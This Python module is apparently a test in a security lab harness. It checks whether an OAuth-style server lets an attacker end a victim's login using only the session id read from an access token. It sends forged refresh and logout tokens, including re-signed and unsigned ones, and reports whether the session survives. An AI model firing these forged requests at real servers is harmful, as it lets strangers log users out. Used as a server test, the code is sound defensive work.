"""Log somebody out, because you have seen the id of their log-in.

Exploits a server that takes an id for a secret. The id of a log-in is in each of its access tokens,
and so in the log of whoever keeps these. If it begins the refresh token too, a made-up end looks
like the reuse of an old one, and the log-in ends. If a token that is given back is not checked, any
end will do.
Source: RFC 7009, section 5 Security Considerations (guessed tokens),
https://www.rfc-editor.org/rfc/rfc7009#section-5
"""

import secrets
from collections.abc import Iterator

import httpx

from attacks.lab.attack import attack
from attacks.lab.forge import claims_of, header_of, signed_again, unsigned
from attacks.lab.outcome import Outcome, got_in, refused
from attacks.lab.target import Target
from attacks.lab.ways_out import Tokens, goes_on, log_out_request, must_log_out, sid_of

KEY = "a key of the attacker's own, which the server does not have"


def tricks(target: Target, tokens: Tokens) -> Iterator[tuple[str, httpx.Request]]:
    """Make what looks like a token of the log-in, with nothing but what an access token tells."""
    sid, access = sid_of(tokens), tokens["access_token"]
    made_up = f"{sid}.{secrets.token_urlsafe(32)}"
    nothing_signed = f"{unsigned(claims_of(access), header_of(access))}."
    yield "renewed with a made-up end", target.refresh_request(made_up)
    yield "given back with a made-up end", log_out_request(target, made_up)
    yield "given back alone", log_out_request(target, sid)
    yield "given back in a forged token", log_out_request(target, signed_again(access, KEY))
    yield "given back in a token without a signature", log_out_request(target, nothing_signed)


@attack()
def run(target: Target) -> Outcome:
    """Try one after the other, and see whether the victim's log-in goes on."""
    must_log_out(target)
    tokens: Tokens = target.tokens_of(target.enrol())
    answers = {}
    with target.as_thief() as thief:
        for trick, request in tricks(thief, tokens):
            answers[trick] = thief.http.send(request)
            alive = goes_on(target, tokens)
            if alive is None:
                return got_in(f"the id, {trick}: the victim is logged out")
            tokens = alive
    return refused(f"{len(answers)} ways to use the id of a log-in: it goes on")
